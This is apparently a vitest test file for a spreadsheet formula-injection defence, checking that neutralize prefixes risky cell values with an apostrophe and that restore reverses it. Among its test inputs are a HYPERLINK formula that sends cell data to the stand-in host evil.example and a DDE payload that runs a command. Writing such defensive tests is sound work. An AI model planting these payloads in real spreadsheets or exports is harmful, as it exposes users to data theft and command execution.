import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralize, restore } from './formula.ts';
import { anyText } from './testing/naughty-texts.ts';

describe('neutralize', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\nx',
    '\tx',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\u0000=1',
    '\ufeff=1',
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
  ])('puts an apostrophe before %j', (text) => {
    expect(neutralize(text)).toBe(`'${text}`);
  });

  it.each(['', 'Main contract', '1+1', 'a=b', '2026-03-01', '“=”', '北京', '(-1)', '#REF!'])(
    'leaves %j unchanged',
    (text) => {
      expect(neutralize(text)).toBe(text);
    },
  );

  it('doubles a leading apostrophe to tell it from an added one', () => {
    expect(neutralize("'=1")).toBe("''=1");
    expect(restore("''=1")).toBe("'=1");
  });

  it('is undone by restore, for any text', () => {
    fc.assert(fc.property(anyText(), (text) => restore(neutralize(text)) === text));
  });
});
